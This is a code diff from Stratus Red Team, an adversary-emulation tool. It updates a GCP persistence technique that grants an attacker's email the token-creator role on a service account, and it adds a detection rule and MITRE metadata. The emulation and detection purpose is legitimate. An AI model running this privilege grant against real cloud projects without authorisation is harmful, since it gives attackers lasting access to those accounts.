@@ -84,12 +84,19 @@ You can detect when the IAM policy of a service account is updated using the GCP
 When someone impersonates a service account, the GCP Admin Audit Logs event <code>google.iam.credentials.v1.GenerateAccessToken</code> is emitted if you explicitly
 enabled <code>DATA_READ</code> events in the audit logs configuration of your project. For more information, see [Impersonate GCP Service Accounts](https://stratus-red-team.cloud/attack-techniques/GCP/gcp.privilege-escalation.impersonate-service-accounts/#detection).
 `,
-		Platform:                   stratus.GCP,
-		IsIdempotent:               true,
-		MitreAttackTactics:         []mitreattack.Tactic{mitreattack.Persistence},
+		Platform:              stratus.GCP,
+		IsIdempotent:          true,
+		MitreAttackTactics:    []mitreattack.Tactic{mitreattack.Persistence},
+		MitreAttackTechniques: []string{"T1098.003"},
+		DetectionRule: &stratus.DetectionRule{
+			Selections: []stratus.DetectionSelection{
+				{"gcp.audit.method_name": {"google.iam.admin.v1.SetIAMPolicy"}},
+			},
+			FalsePositives: []string{"Administrators managing the access to service accounts"},
+		},
 		PrerequisitesTerraformCode: tf,
-		Detonate:                   detonate,
-		Revert:                     revert,
+		DetonateWithContext:        detonate,
+		RevertWithContext:          revert,
 	})
 }
 
@@ -97,7 +104,7 @@ const DefaultFictitiousAttackerEmail = "stratusredteam@gmail.com"
 const AttackerEmailEnvVarKey = "STRATUS_RED_TEAM_ATTACKER_EMAIL"
 const RoleToGrant = "iam.serviceAccountTokenCreator"
 
-func detonate(params map[string]string, providers stratus.CloudProviders) error {
+func detonate(ctx context.Context, params map[string]string, providers stratus.CloudProviders) error {
 	attackerPrincipal := gcp_utils.GetAttackerPrincipal()
 	policy := &iam.Policy{
 		Bindings: []*iam.Binding{
@@ -108,7 +115,7 @@ func detonate(params map[string]string, providers stratus.CloudProviders) error
 		},
 	}
 	log.Println("Granting " + attackerPrincipal + " " + RoleToGrant + " on " + params["sa_email"] + " through its IAM policy")
-	err := setServiceAccountPolicy(providers, params["sa_email"], params["sa_id"], policy)
+	err := setServiceAccountPolicy(ctx, providers, params["sa_email"], params["sa_id"], policy)
 	if err != nil {
 		return err
 	}
@@ -117,23 +124,22 @@ func detonate(params map[string]string, providers stratus.CloudProviders) error
 	return nil
 }
 
-func revert(params map[string]string, providers stratus.CloudProviders) error {
+func revert(ctx context.Context, params map[string]string, providers stratus.CloudProviders) error {
 	policy := &iam.Policy{
 		Bindings: []*iam.Binding{},
 	}
 	log.Println("Reverting the IAM policy of " + params["sa_email"])
-	return setServiceAccountPolicy(providers, params["sa_email"], params["sa_id"], policy)
+	return setServiceAccountPolicy(ctx, providers, params["sa_email"], params["sa_id"], policy)
 }
 
-func setServiceAccountPolicy(providers stratus.CloudProviders, saEmail string, saId string, policy *iam.Policy) error {
+func setServiceAccountPolicy(ctx context.Context, providers stratus.CloudProviders, saEmail string, saId string, policy *iam.Policy) error {
 
-	ctx := context.Background()
 	service, err := iam.NewService(ctx, providers.GCP().Options())
 	if err != nil {
 		return errors.New("Error instantiating GCP SDK Client: " + err.Error())
 	}
 
-	_, err = service.Projects.ServiceAccounts.SetIamPolicy(saId, &iam.SetIamPolicyRequest{Policy: policy}).Do()
+	_, err = service.Projects.ServiceAccounts.SetIamPolicy(saId, &iam.SetIamPolicyRequest{Policy: policy}).Context(ctx).Do()
 
 	if err != nil {
 		return fmt.Errorf("unable to set IAM policy of %s: %w", saEmail, err)